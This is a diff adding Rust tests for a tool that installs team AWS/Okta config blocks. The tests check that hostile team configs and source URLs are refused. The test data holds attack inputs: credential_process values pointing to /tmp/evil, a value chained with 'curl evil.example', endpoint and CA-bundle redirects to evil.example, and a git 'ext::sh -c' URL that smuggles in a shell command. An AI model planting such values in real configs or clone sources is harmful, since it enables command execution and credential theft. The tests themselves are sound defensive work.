@@ -6,7 +6,8 @@ use std::path::{Path, PathBuf};
 use std::process::Command;
 
 use aws_okta_team_config::{
-    generate, init, merge_managed_block, write_files, Error, InitOptions, InitReport, BACKUP_INFIX,
+    generate, init, merge_managed_block, write_files, DangerousKey, Error, InitOptions, InitReport,
+    BACKUP_INFIX, DEFAULT_GIT_TIMEOUT,
 };
 
 /// A source directory holding the example org's generated team configs.
@@ -23,6 +24,8 @@ fn opts(team: &str, source: &Path, config: &Path) -> InitOptions {
         source: source.display().to_string(),
         config_path: config.to_path_buf(),
         dry_run: false,
+        allow_executable_keys: false,
+        git_timeout: DEFAULT_GIT_TIMEOUT,
     }
 }
 
@@ -419,6 +422,197 @@ fn a_symlinked_config_is_written_through() {
     assert_eq!(r.config_path, fs::canonicalize(&real).unwrap());
 }
 
+/// A source directory whose only team, `evil`, has the given config: what a compromised
+/// team-config repository would serve.
+fn hostile_source(team_config: &str) -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    fs::create_dir(dir.path().join("teams")).unwrap();
+    fs::write(dir.path().join("teams/evil.config"), team_config).unwrap();
+    dir
+}
+
+const HOSTILE: &str = "# Team evil\n[okta]\naws_saml_url = home/amazon_aws/0oa1abcdEFGH/272\n\n[profile evil-hub]\nrole_arn = arn:aws:iam::123456789012:role/x\ncredential_process = /tmp/evil\n";
+
+fn finding(line: usize, section: &str, key: &str, value: &str) -> DangerousKey {
+    DangerousKey {
+        line,
+        section: section.into(),
+        key: key.into(),
+        value: value.into(),
+    }
+}
+
+/// Refused without the flag: the error names every finding, the config is byte-for-byte
+/// unchanged, and there is no backup.
+fn assert_refused(team_config: &str, expected: &[DangerousKey]) {
+    let src = hostile_source(team_config);
+    let home = tempfile::tempdir().unwrap();
+    let config = home.path().join("config");
+    fs::write(&config, USER).unwrap();
+    let e = init(&opts("evil", src.path(), &config), &accept).unwrap_err();
+    let team_file = format!("{}: teams/evil.config", src.path().display());
+    match &e {
+        Error::DangerousKeys {
+            team_file: t,
+            findings,
+        } => {
+            assert_eq!(t, &team_file);
+            assert_eq!(findings, expected);
+        }
+        other => panic!("{other:?}"),
+    }
+    let text = e.to_string();
+    let lines: Vec<&str> = text.lines().collect();
+    assert_eq!(lines.len(), expected.len() + 2, "{text}");
+    for (l, f) in lines[1..].iter().zip(expected) {
+        assert_eq!(*l, format!("{team_file}:{}: {f}", f.line));
+    }
+    assert!(
+        lines[lines.len() - 1].contains("re-run with --allow-executable-keys"),
+        "{text}"
+    );
+    assert_eq!(fs::read(&config).unwrap(), USER.as_bytes());
+    assert!(backups(&config).is_empty());
+    assert_eq!(
+        fs::read_dir(home.path()).unwrap().count(),
+        1,
+        "no temporary file"
+    );
+}
+
+#[test]
+fn a_credential_process_from_the_team_repository_is_refused() {
+    assert_refused(
+        HOSTILE,
+        &[finding(
+            7,
+            "profile evil-hub",
+            "credential_process",
+            "/tmp/evil",
+        )],
+    );
+    // The Display line is exactly `<team file>:<line>: [<section>] <key> = <value>`.
+    let src = hostile_source(HOSTILE);
+    let home = tempfile::tempdir().unwrap();
+    let e = init(
+        &opts("evil", src.path(), &home.path().join("config")),
+        &accept,
+    )
+    .unwrap_err();
+    assert!(e.to_string().contains(&format!(
+        "\n{}: teams/evil.config:7: [profile evil-hub] credential_process = /tmp/evil\n",
+        src.path().display()
+    )));
+    assert!(!home.path().join("config").exists(), "not created either");
+}
+
+#[test]
+fn endpoints_services_and_foreign_saml_urls_are_refused() {
+    assert_refused(
+        "[services evil]\nsts =\n  endpoint_url = https://sts.evil.example\n\n[profile p]\nrole_arn = arn:aws:iam::123456789012:role/x\nservices = evil\nendpoint_url = https://evil.example\nca_bundle = /tmp/evil-ca.pem\n",
+        &[
+            finding(1, "services evil", "", ""),
+            finding(3, "services evil", "endpoint_url", "https://sts.evil.example"),
+            finding(8, "profile p", "endpoint_url", "https://evil.example"),
+            finding(9, "profile p", "ca_bundle", "/tmp/evil-ca.pem"),
+        ],
+    );
+    assert_refused(
+        "[okta]\naws_saml_url = https://evil.example/x\n[profile p]\nrole_arn = arn:aws:iam::123456789012:role/x\n",
+        &[finding(2, "okta", "aws_saml_url", "https://evil.example/x")],
+    );
+    assert_refused(
+        "[okta]\naws_saml_url = \\\\evil.example\\x\n[profile p]\nrole_arn = arn:aws:iam::123456789012:role/x\n",
+        &[finding(2, "okta", "aws_saml_url", "\\\\evil.example\\x")],
+    );
+    // Written the way Python's configparser also reads: `:` delimiter, any case, after a lone \r.
+    assert_refused(
+        "[profile p]\nrole_arn = arn:aws:iam::123456789012:role/x\rCredential_Process: /tmp/evil\n",
+        &[finding(2, "profile p", "Credential_Process", "/tmp/evil")],
+    );
+}
+
+#[test]
+fn allow_executable_keys_installs_and_reports_the_findings() {
+    let src = hostile_source(HOSTILE);
+    let home = tempfile::tempdir().unwrap();
+    let config = home.path().join("config");
+    fs::write(&config, USER).unwrap();
+    let mut o = opts("evil", src.path(), &config);
+    o.allow_executable_keys = true;
+    let r = init(&o, &accept).unwrap();
+    assert!(r.changed && r.backup_path.is_some());
+    assert_eq!(
+        r.findings,
+        vec![finding(
+            7,
+            "profile evil-hub",
+            "credential_process",
+            "/tmp/evil"
+        )]
+    );
+    assert!(fs::read_to_string(&config)
+        .unwrap()
+        .contains("\ncredential_process = /tmp/evil\n# END aws-okta team evil\n"));
+}
+
+#[test]
+fn aws_okta_cred_process_is_not_a_finding() {
+    let src = hostile_source(&HOSTILE.replace("/tmp/evil", "aws-okta cred-process evil-hub"));
+    let home = tempfile::tempdir().unwrap();
+    let config = home.path().join("config");
+    let r = init(&opts("evil", src.path(), &config), &accept).unwrap();
+    assert!(r.findings.is_empty() && r.created);
+    assert!(fs::read_to_string(&config)
+        .unwrap()
+        .contains("\ncredential_process = aws-okta cred-process evil-hub\n"));
+    // Anything more than that one command is a finding again.
+    assert_refused(
+        &HOSTILE.replace(
+            "/tmp/evil",
+            "aws-okta cred-process evil-hub; curl evil.example",
+        ),
+        &[finding(
+            7,
+            "profile evil-hub",
+            "credential_process",
+            "aws-okta cred-process evil-hub; curl evil.example",
+        )],
+    );
+}
+
+#[test]
+fn a_dry_run_reports_the_findings_and_writes_nothing() {
+    let src = hostile_source(HOSTILE);
+    let home = tempfile::tempdir().unwrap();
+    let config = home.path().join("config");
+    fs::write(&config, USER).unwrap();
+    let mut o = opts("evil", src.path(), &config);
+    o.dry_run = true;
+    let r = init(&o, &accept).unwrap();
+    assert_eq!(
+        r.findings,
+        vec![finding(
+            7,
+            "profile evil-hub",
+            "credential_process",
+            "/tmp/evil"
+        )]
+    );
+    assert!(
+        r.diff.contains("+credential_process = /tmp/evil\n"),
+        "{}",
+        r.diff
+    );
+    assert_eq!(fs::read(&config).unwrap(), USER.as_bytes());
+    assert!(backups(&config).is_empty());
+    // The generated team configs have no findings.
+    let src = source_dir();
+    o.team = "oncall".into();
+    o.source = src.path().display().to_string();
+    assert!(init(&o, &accept).unwrap().findings.is_empty());
+}
+
 fn git(dir: &Path, args: &[&str]) {
     let out = Command::new("git")
         .args([
@@ -517,4 +711,41 @@ fn clone_dirs() -> Vec<PathBuf> {
         .collect();
     v.sort();
     v
+}
+
+#[cfg(unix)]
+#[test]
+fn a_source_url_cannot_make_git_run_a_command() {
+    let tmp = tempfile::tempdir().unwrap();
+    let pwned = tmp.path().join("pwned");
+    // `% ` is a space inside one argument of ext::; the trailing `#.git` makes init take it for
+    // a git source and is a shell comment to `sh -c`.
+    let source = format!("ext::sh -c touch% {}% #.git", pwned.display());
+    let home = tempfile::tempdir().unwrap();
+    let config = home.path().join("config");
+    let mut o = opts("oncall", tmp.path(), &config);
+    o.source = source;
+    match init(&o, &accept) {
+        Err(Error::Git { message, .. }) => {
+            assert!(message.contains("transport 'ext' not allowed"), "{message}")
+        }
+        other => panic!("{other:?}"),
+    }
+    assert!(!pwned.exists(), "git ran the ext:: command");
+    assert!(!config.exists());
+}
+
+#[test]
+fn git_protocol_urls_are_refused() {
+    let home = tempfile::tempdir().unwrap();
+    let config = home.path().join("config");
+    let mut o = opts("oncall", home.path(), &config);
+    o.source = "git://git.example.com/team-configs.git".into();
+    let e = init(&o, &accept).unwrap_err();
+    assert!(matches!(e, Error::Git { .. }));
+    assert_eq!(
+        e.to_string(),
+        "cannot clone git://git.example.com/team-configs.git: git:// is unauthenticated and unencrypted, so anyone on the network path could change the team config: use an https:// or ssh:// URL"
+    );
+    assert!(!config.exists());
 }
